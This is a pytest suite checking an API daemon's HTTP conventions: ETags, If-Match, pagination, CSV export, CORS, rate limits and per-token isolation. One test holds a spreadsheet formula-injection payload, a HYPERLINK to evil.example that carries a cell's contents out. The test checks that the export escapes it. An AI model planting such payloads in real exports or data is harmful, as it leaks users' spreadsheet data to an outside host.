# SPDX-License-Identifier: Apache-2.0
"""The conventions, on every route there is: the table of routes is the published contract's."""
import contextlib
import csv
import io
import re
import sqlite3

import pytest

from lib import raw
from lib.callers import make_token
from lib.client import Client
from lib.daemon import Daemon
from lib.fake import Fake
from test_http_contract import errors, problem

ORIGIN = "https://review.example"
DAY = "2026-01-06"
NOWHERE = "8888888" # the number of something that is not there


@pytest.fixture(scope="module")
def daemon(tmp_path_factory, the_sandbox):
    """One that knows an ALP, so that every route has something to say."""
    directory = tmp_path_factory.mktemp("daemon")
    d = Daemon(directory, the_sandbox, the_sandbox.alp_settings(directory))
    d.start()
    yield d
    d.end()


@pytest.fixture(scope="module")
def fetched(daemon, user_numbers, the_sandbox):
    """A user with entries, and the job that made them."""
    number = next(user_numbers)
    a = daemon.client.post("/api/jobs/fetch", {"alp_user_id": number, "rescue_time_api_key": the_sandbox.key(number), "days": 2,
                                               "target_date": "2026-01-07", "time_zone": "Australia/Sydney"}, Prefer="wait=30")
    assert a.status == 202 and a.json()["state"] == "succeeded", a
    return number, a.json()["job_id"]


@pytest.fixture(scope="module")
def routes(daemon, fetched):
    """(method, path that is there, operation) of every route."""
    user, job = fetched
    entry = daemon.client.get("/api/time_entries", alp_user_id=user).json()[0]["entry_id"]
    check = daemon.client.post("/api/rules/check", {"alp_user_id": user, "days": 1, "rules": ""}).json()["job_id"]
    values = {"job_id": job, "entry_id": entry, "alp_user_id": user, "kind": "process"}
    found = []
    for path, item in daemon.client.get("/openapi.json").json()["paths"].items():
        for method, operation in item.items():
            if method in ("get", "post", "put", "patch", "delete"):
                there = {**values, "job_id": check} if "/rules/" in path else values
                found.append((method.upper(), re.sub(r"\{(\w+)\}", lambda m: str(there.get(m[1], NOWHERE)), path), operation))
    assert len(found) >= 19
    return found


def query_of(operation, user):
    """The query without which a read answers 422."""
    names = {p.get("name") for p in operation.get("parameters", []) if p.get("in") == "query"}
    wanted = {"alp_user_id": user, "date": DAY} if {"alp_user_id", "date"} <= names else {"alp_user_id": user} if "alp_user_id" in names else {}
    wanted.update({p["name"]: DAY for p in operation.get("parameters", []) if p.get("name") in ("from", "to") and p.get("required")})
    return "?" + "&".join(f"{k}={v}" for k, v in wanted.items()) if wanted else ""


def reads(routes, user):
    """Every GET of something that is there, and that answers at once, which streams do not."""
    return [(path + query_of(operation, user), operation) for method, path, operation in routes
            if method == "GET" and "events" not in path and NOWHERE not in path and "200" in operation["responses"]]


def is_json(answer):
    return answer.headers.get("Content-Type", "").startswith("application/json")


def test_every_path_tells_its_methods_and_refuses_the_others(daemon, routes):
    methods = {}
    for method, path, _ in routes:
        methods.setdefault(path, set()).add(method)
    for path, known in methods.items():
        allow = known | {"OPTIONS"} | ({"HEAD"} if "GET" in known else set())
        a = daemon.client.request("OPTIONS", path)
        assert a.status == 204 and set(a.headers["Allow"].split(", ")) == allow and a.body == b"", path
        for method in {"GET", "POST", "PUT", "PATCH", "DELETE"} - known:
            a = daemon.client.request(method, path)
            problem(a, 405, "method_not_allowed")
            assert set(a.headers["Allow"].split(", ")) == allow, path


def test_head_is_get_without_its_body(daemon, routes, fetched):
    for path, _ in reads(routes, fetched[0]):
        g, h = daemon.client.request("GET", path), daemon.client.request("HEAD", path)
        assert (h.status, h.body, h.headers["Content-Type"], h.headers.get("ETag")) == (
            g.status, b"", g.headers["Content-Type"], g.headers.get("ETag")), path
        assert g.status == 200, (path, g)


def test_every_answer_names_the_request(daemon, routes, fetched):
    for method, path, operation in routes:
        if "events" in path:
            continue
        if method in ("POST", "DELETE", "PUT", "PATCH"):
            path, kwargs = path + "?nope=1", {"json": {}}
        else:
            path, kwargs = path + query_of(operation, fetched[0]), {}
        a = daemon.client.request(method, path, headers={"X-Request-Id": "mine-1"}, **kwargs)
        assert a.headers["X-Request-Id"] == "mine-1" and a.headers["X-Content-Type-Options"] == "nosniff", (method, path)
        if method != "GET":
            assert ("query", "nope") in errors(a), (method, path)
            assert all(e["msg"] and e["loc"] for e in a.json()["errors"]) and a.json()["instance"] == path.split("?")[0]


TAGGED = ("/api/jobs", "/api/jobs/{job_id}", "/api/time_entries", "/api/time_entries/{entry_id}", "/api/reports/day", "/api/users/{alp_user_id}",
          "/openapi.json")


def test_what_did_not_change_is_not_sent_again(daemon, routes, fetched):
    checked = 0
    for path, operation in reads(routes, fetched[0]):
        a = daemon.client.request("GET", path)
        if "304" not in operation["responses"]:
            assert "ETag" not in a.headers, path
            continue
        checked += 1
        tag = a.headers["ETag"]
        assert tag.startswith('"'), "strong"
        for given in (tag, f'"other", {tag}', "*", "W/" + tag):
            for method in ("GET", "HEAD"):
                again = daemon.client.request(method, path, headers={"If-None-Match": given})
                assert (again.status, again.body, again.headers["ETag"]) == (304, b"", tag), (path, given)
        assert daemon.client.request("GET", path, headers={"If-None-Match": '"other"'}).status == 200
    assert checked >= len(TAGGED)


def test_a_change_needs_the_state_it_was_made_for(daemon, fetched):
    user, _ = fetched
    entry = daemon.client.get("/api/time_entries", alp_user_id=user).json()[0]["entry_id"]
    for method, path, body in [("PATCH", f"/api/time_entries/{entry}", {"notes": "n"}), ("PUT", f"/api/time_entries/{entry}/ignore", None),
                               ("PUT", f"/api/time_entries/{entry}/restore", None), ("PUT", f"/api/users/{user}", {"time_zone": "Australia/Sydney"})]:
        read = path.removesuffix("/ignore").removesuffix("/restore")
        def change(tag):
            return daemon.client.request(method, path, json=body, headers={"If-Match": tag})
        tag = daemon.client.get(read).headers["ETag"]
        for wrong in ('"other"', "W/" + tag, "", tag.replace('"e', '"e9').replace('"u', '"u9')):
            a = change(wrong)
            assert a.status == 412 and a.json()["code"] in ("entry_changed", "user_changed"), (path, wrong, a)
        assert daemon.client.get(read).headers["ETag"] == tag, "nothing was changed"
        a = change(f'"other", {tag}')
        assert a.status == 200 and a.headers["ETag"] != tag and daemon.client.get(read).headers["ETag"] == a.headers["ETag"], (path, a)
        assert change(tag).status == 412
        assert change("*").status == 200


def test_two_who_change_a_user_at_once_do_not_both_succeed(daemon, user_numbers):
    user = next(user_numbers)
    unknown = daemon.client.get(f"/api/users/{user}").headers["ETag"]
    def put(zone, tag):
        return daemon.client.request("PUT", f"/api/users/{user}", json={"time_zone": zone}, headers={"If-Match": tag}).status
    assert [put("Australia/Perth", unknown), put("Australia/Hobart", unknown)] == [201, 412]
    assert daemon.client.get(f"/api/users/{user}").json()["time_zone"] == "Australia/Perth"


def test_pages_carry_what_was_asked_and_end(daemon, fetched):
    user, _ = fetched
    for path, key in [(f"/api/time_entries?alp_user_id={user}&status=pending", "entry_id"), (f"/api/jobs?alp_user_id={user}", "job_id")]:
        whole, seen, page = [row[key] for row in daemon.client.get(path).json()], [], path + "&limit=1"
        while page:
            a = daemon.client.get(page)
            seen += [row[key] for row in a.json()]
            page = re.fullmatch(r'<([^>]*)>; rel="next"', a.headers["Link"])[1] if "Link" in a.headers else None
        assert seen == whole and len(whole) > 1


def test_the_size_of_a_list_is_told_when_asked_for(daemon, fetched):
    user, _ = fetched
    for path in (f"/api/time_entries?alp_user_id={user}", f"/api/jobs?alp_user_id={user}", f"/api/jobs?alp_user_id={user}&kind=fetch", "/api/jobs?kind=process",
                 "/api/jobs?state=succeeded,failed", f"/api/jobs?alp_user_id={user}&state=succeeded", "/api/jobs?state=cancelled", "/api/jobs"):
        whole, join = daemon.client.get(path), "&" if "?" in path else "?"
        assert "X-Total-Count" not in whole.headers and "X-Total-Count" not in daemon.client.get(path + join + "count=false").headers
        for page in ("", "&limit=1", "&limit=5000"):
            assert daemon.client.get(path + join + "count=true" + page).headers["X-Total-Count"] == str(len(whole.json())), path


# --- CSV ----------------------------------------------------------------------------------------------------------------


def table(answer):
    text = answer.body.decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_text(value):
    if isinstance(value, list):
        return " ".join(value)
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


def test_lists_and_reports_are_tables_too(daemon, routes, fetched):
    user, _ = fetched
    last = daemon.client.get("/api/time_entries", alp_user_id=user, date=DAY).json()[-1]["entry_id"]
    assert daemon.client.post("/api/processed_time_entries", {"original_entry_id": last}).status == 201
    tables = [path for path, operation in reads(routes, user) if "text/csv" in operation["responses"]["200"].get("content", {})]
    assert len(tables) >= 3
    for path in tables:
        a = daemon.client.request("GET", path, headers={"Accept": "text/csv"})
        assert a.status == 200 and a.headers["Content-Type"].startswith("text/csv; charset=utf-8"), path
        assert re.fullmatch(r'attachment; filename="[a-z_]+\.csv"', a.headers["Content-Disposition"])
        plain = daemon.client.request("GET", path)
        for answer in (a, plain):
            assert "Accept" in answer.headers["Vary"].split(", ")
        assert is_json(plain) and plain.headers["ETag"] != a.headers["ETag"] and "Content-Disposition" not in plain.headers
        rows = plain.json() if isinstance(plain.json(), list) else plain.json().get("by_day") or [plain.json()]
        assert len(table(a)) == len(rows) > 0
        for cells, row in zip(table(a), rows):
            for name, cell in cells.items():
                inner = row.get("billing") or row.get("error") or {}
                value = row[name] if name in row else inner.get(name.removeprefix("error_"))
                assert cell.removeprefix("'") == as_text(value), (path, name)
        assert daemon.client.request("GET", path, headers={"Accept": "text/csv", "If-None-Match": a.headers["ETag"]}).status == 304
        assert daemon.client.request("HEAD", path, headers={"Accept": "text/csv"}).headers["Content-Length"] == str(len(a.body))
        # What is kept of one form is not given for the other.
        assert daemon.client.request("GET", path, headers={"Accept": "text/csv"}).body == a.body
        assert daemon.client.request("GET", path, headers={"Accept": "application/json"}).body == plain.body
        problem(daemon.client.request("GET", path, headers={"Accept": "text/html, image/*;q=0.5"}), 406, "not_acceptable")
        problem(daemon.client.request("GET", path, headers={"Accept": "*/*;q=0"}), 406, "not_acceptable")


def test_a_page_of_a_table_links_to_the_next(daemon, fetched):
    a = daemon.client.request("GET", f"/api/time_entries?alp_user_id={fetched[0]}&limit=1&count=true", headers={"Accept": "text/csv"})
    assert len(table(a)) == 1 and "Link" in a.headers and int(a.headers["X-Total-Count"]) > 1


def test_a_title_does_not_become_a_formula(daemon, fetched):
    user, _ = fetched
    entry = daemon.client.get("/api/time_entries", alp_user_id=user).json()[0]["entry_id"]
    evil = '=HYPERLINK("http://evil.example/?"&A1, "ok")'
    assert daemon.client.patch(f"/api/time_entries/{entry}", {"task_description": evil, "notes": "-1\r\nsecond line"}).status == 200
    a = daemon.client.request("GET", f"/api/time_entries?alp_user_id={user}&status=all", headers={"Accept": "text/csv"})
    row = next(r for r in csv.DictReader(io.StringIO(a.body.decode(), newline="")) if r["entry_id"] == str(entry))
    assert row["task_description"] == "'" + evil and row["notes"] == "'-1\r\nsecond line"
    assert daemon.client.patch(f"/api/time_entries/{entry}", {"task_description": None, "notes": None}).status == 200


# --- pages of other origins -------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def opened(tmp_path_factory, the_sandbox):
    from lib.daemon import Daemon
    d = Daemon(tmp_path_factory.mktemp("cors"), the_sandbox, {"http.allowed_origins": [ORIGIN]})
    d.start()
    yield d
    d.end()


def preflight(daemon, path, origin=ORIGIN, method="PATCH"):
    return daemon.client.request("OPTIONS", path, headers={"Origin": origin, "Access-Control-Request-Method": method,
                                                          "Access-Control-Request-Headers": "authorization,content-type,if-match"})


def test_a_listed_page_may_use_every_route(opened, routes):
    for method, path, _ in routes:
        a = preflight(opened, path, method=method)
        assert a.status == 204 and a.headers["Access-Control-Allow-Origin"] == ORIGIN, path
        assert method in a.headers["Access-Control-Allow-Methods"].split(", ")
        allowed = {h.lower() for h in a.headers["Access-Control-Allow-Headers"].split(", ")}
        assert allowed >= {"authorization", "content-type", "if-match", "if-none-match", "idempotency-key", "prefer", "x-request-id", "last-event-id"}
        assert int(a.headers["Access-Control-Max-Age"]) > 0 and "Origin" in a.headers["Vary"]
        assert "Access-Control-Allow-Credentials" not in a.headers
    problem(preflight(opened, "/api/nothing"), 404, "not_found")


def test_an_answer_to_a_listed_page_may_be_read(opened):
    for path, status in (("/api/jobs", 200), ("/api/jobs/999", 404), ("/api/time_entries", 422), ("/nope", 404)):
        a = opened.client.request("GET", path, headers={"Origin": ORIGIN})
        assert a.status == status and a.headers["Access-Control-Allow-Origin"] == ORIGIN and "Origin" in a.headers["Vary"].split(", ")
        told = set(a.headers["Access-Control-Expose-Headers"].split(", "))
        assert told >= {"ETag", "Link", "Location", "Retry-After", "X-Request-Id", "X-Total-Count", "RateLimit", "RateLimit-Policy"}
    assert opened.client.request("POST", "/api/jobs/process", json={"alp_user_id": 1}, headers={"Origin": ORIGIN}).status == 202


@pytest.mark.parametrize("origin", ["https://evil.example", "null", ORIGIN + ".evil.example", "http://review.example", "http://localhost:3000", ""])
def test_an_answer_to_any_other_page_may_not(opened, origin):
    a = opened.client.request("GET", "/api/jobs", headers={"Origin": origin})
    assert a.status == 200 and "Access-Control-Allow-Origin" not in a.headers and "Origin" in a.headers["Vary"].split(", ")
    assert not [h for h in preflight(opened, "/api/jobs", origin).headers if h.startswith("Access-Control")]


def test_without_a_list_nothing_is_said_of_origins(daemon):
    a = daemon.client.request("GET", "/api/jobs", headers={"Origin": ORIGIN})
    assert "Access-Control-Allow-Origin" not in a.headers and "Origin" not in a.headers.get("Vary", "")
    assert "Access-Control-Allow-Origin" not in preflight(daemon, "/api/jobs").headers


# --- how often --------------------------------------------------------------------------------------------------------------


def rate(answer):
    policy = re.fullmatch(r'"default";q=(\d+);w=(\d+)', answer.headers["RateLimit-Policy"])
    limit = re.fullmatch(r'"default";r=(\d+);t=(\d+)', answer.headers["RateLimit"])
    assert policy and limit, answer.headers
    return int(policy[1]), int(policy[2]), int(limit[1]), int(limit[2])


def test_who_asks_too_often_is_told_when_to_come_back(make_daemon):
    d = make_daemon({"http.requests_per_minute": 20, "http.burst": 4}).start()
    answers = [d.client.get("/api/jobs") for _ in range(6)]
    assert [a.status for a in answers] == [200, 200, 200, 200, 429, 429]
    assert [rate(a)[2] for a in answers] == [3, 2, 1, 0, 0, 0] and rate(answers[0])[:2] == (20, 60)
    refused = answers[-1]
    problem(refused, 429, "rate_limited")
    assert 1 <= int(refused.headers["Retry-After"]) <= 3 and rate(refused)[3] <= 12
    # Paths that are not there count too; being asked for life does not.
    problem(d.client.get("/nope"), 429, "rate_limited")
    for _ in range(20):
        a = d.client.get("/healthz")
        assert a.status == 200 and "RateLimit" not in a.headers
    d.configure(http__requests_per_minute=0)
    d.reload()
    d.wait_log("configuration")
    for _ in range(20):
        a = d.client.get("/api/jobs")
        assert a.status == 200 and "RateLimit" not in a.headers and "RateLimit-Policy" not in a.headers


def test_what_was_refused_for_its_rate_had_no_effect(make_daemon):
    d = make_daemon({"http.requests_per_minute": 1, "http.burst": 2}).start()
    answers = [d.client.request("POST", "/api/jobs/process", json={"alp_user_id": 1, "date": f"2026-01-0{i}"},
                                headers={"Idempotency-Key": f"k{i}"}) for i in range(1, 5)]
    assert [a.status for a in answers] == [202, 202, 429, 429]
    d.stop()
    assert d.query("SELECT count(*) FROM jobs") == [(2,)] and d.query("SELECT count(*) FROM once") == [(2,)]


def test_by_default_there_is_a_limit_that_nobody_meets(daemon):
    quota, window, left, _ = rate(daemon.client.get("/api/jobs"))
    assert (quota, window) == (600000, 60) and left > 100


# --- with tokens ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def house(tmp_path_factory, the_sandbox):
    """A daemon with tokens and a listed origin, and a caller by each of two of them."""
    from lib.daemon import Daemon
    d = Daemon(tmp_path_factory.mktemp("house"), the_sandbox, {"http.allowed_origins": [ORIGIN], "http.requests_per_minute": 6, "http.burst": 30})
    d.start()
    _, one = make_token(d.client)
    _, two = make_token(Client(path=d.socket_path))
    yield d, Client(d.port, token=one), Client(d.port, token=two)
    d.end()


def test_a_preflight_needs_no_token_and_what_follows_does(house, routes):
    d, one, _ = house
    for method, path, _ in routes:
        a = preflight(d, path, method=method)
        assert a.status == 204 and a.headers["Access-Control-Allow-Origin"] == ORIGIN, path
    refused = d.client.request("GET", "/api/jobs", headers={"Origin": ORIGIN})
    # A page that may not read why it was refused could not ask its user for another token.
    assert problem(refused, 401, "unauthorized") and refused.headers["Access-Control-Allow-Origin"] == ORIGIN
    let_in = one.request("GET", "/api/jobs", headers={"Origin": ORIGIN})
    assert let_in.status == 200 and let_in.headers["Access-Control-Allow-Origin"] == ORIGIN


def test_keys_of_two_callers_never_meet(house):
    _, one, two = house
    answers = [client.request("POST", "/api/jobs/process", json={"alp_user_id": 5, "date": date}, headers={"Idempotency-Key": "shared"})
               for client, date in ((one, "2026-01-01"), (two, "2026-01-02"), (one, "2026-01-01"), (two, "2026-01-02"))]
    assert [a.status for a in answers] == [202] * 4
    assert answers[0].json()["job_id"] == answers[2].json()["job_id"] != answers[1].json()["job_id"] == answers[3].json()["job_id"]
    assert ["Idempotent-Replay" in a.headers for a in answers] == [False, False, True, True]


def test_one_callers_rate_is_not_anothers(house):
    _, one, two = house
    statuses = [one.get("/api/jobs").status for _ in range(31)]
    assert statuses[0] == 200 and statuses[-1] == 429
    assert two.get("/api/jobs").status == 200


# --- before there is a request ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("request_text, status", [
    ("GET /" + "x" * 5000 + " HTTP/1.1\r\nHost: localhost\r\n\r\n", 414),
    ("GET / HTTP/1.1\r\nHost: localhost\r\nX: " + "x" * 20000 + "\r\n\r\n", 431),
    ("GET / HTTP/1.1\r\nHost: localhost\r\n" + "X: y\r\n" * 80 + "\r\n", 431),
    ("GET / HTTP/3.0\r\nHost: localhost\r\n\r\n", 505),
    ("POST /api/jobs/fetch HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999\r\n\r\n", 413)])
def test_what_is_too_large_is_a_problem_too(daemon, request_text, status):
    a = raw.request(daemon.port, request_text)
    assert a.status == status and a.headers["content-type"] == "application/problem+json"
    doc = a.json()
    assert doc["status"] == status and doc["code"] and doc["request_id"] == a.headers["x-request-id"]


def test_a_zone_that_a_fetch_brings_outdates_what_was_read_of_the_user_whatever_the_clock_says(make_daemon, sandbox):
    """The tag names the time of the last change. One that comes in the same millisecond, or after the clock was set back, must show."""
    d = make_daemon().start()
    assert d.client.put("/api/users/5", {"time_zone": "Europe/Berlin"}).status == 201
    d.stop()
    with contextlib.closing(sqlite3.connect(d.db_path)) as db, db:
        db.execute("UPDATE users SET updated_ms = updated_ms + 3600000")
    d.start()
    before = d.client.get("/api/users/5")
    d.fetch(5, sandbox.key(5), days=1, time_zone="Australia/Perth")
    after = d.client.get("/api/users/5")
    assert after.json()["time_zone"] == "Australia/Perth" and after.json()["updated_at"] > before.json()["updated_at"]
    a = d.client.request("PUT", "/api/users/5", json={"time_zone": None}, headers={"If-Match": before.headers["ETag"]})
    assert (a.status, a.json()["code"]) == (412, "user_changed")


@pytest.mark.parametrize("user, status, code", [(900, 503, "disk_full"), (901, 503, "store_failed"), (902, 429, "queue_full")])
def test_whoever_should_wait_is_told_how_long(user, status, code):
    with Fake() as fake:
        a = fake.client.post("/api/jobs/process", {"alp_user_id": user})
        problem(a, status, code)
        assert int(a.headers["Retry-After"]) >= 1
        assert "Idempotent-Replay" not in a.headers
